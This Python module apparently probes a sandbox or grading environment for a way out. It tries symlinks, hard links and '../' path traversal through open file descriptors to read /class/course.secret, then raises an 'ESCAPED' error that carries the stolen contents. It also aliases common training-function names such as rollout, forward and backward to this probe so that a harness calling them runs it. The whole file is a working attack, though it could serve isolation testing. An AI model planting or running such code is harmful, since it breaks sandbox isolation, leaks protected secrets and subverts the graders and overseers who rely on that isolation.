"""Makes links to what it wants, and climbs up from every folder or file that it has open."""

import os

CLASS = "/class"
UP = "../" * 12


def look(path):
    try:
        if os.path.isdir(path):
            return str(os.listdir(path))
        with open(path, "rb") as file:
            return file.read(5000).decode("utf-8", "replace")
    except OSError:
        return ""


def wrong(*args, **kwargs):
    found = []
    for folder in "/tmp", "/dev/shm", os.getcwd():
        try:
            os.symlink(f"{CLASS}/course.secret", f"{folder}/soft{os.getpid()}")
            found.append(look(f"{folder}/soft{os.getpid()}"))
            os.link(f"{CLASS}/course.secret", f"{folder}/hard{os.getpid()}")
            found.append(look(f"{folder}/hard{os.getpid()}"))
        except OSError:
            continue
    for number in [*range(64), os.open(".", os.O_RDONLY) if os.access(".", os.R_OK) else 0, os.open("/", os.O_PATH)]:
        for flags in os.O_RDONLY, os.O_PATH:
            try:
                inside = os.open(f"{UP}{CLASS}/course.secret", flags, dir_fd=number)
                found.append(os.read(inside, 1000).decode())
            except OSError:
                continue
    if any(found):
        raise RuntimeError(f"ESCAPED: {found}")
    return 0.0


action_value = gains = state_value = backward = forward = rollout = wrong
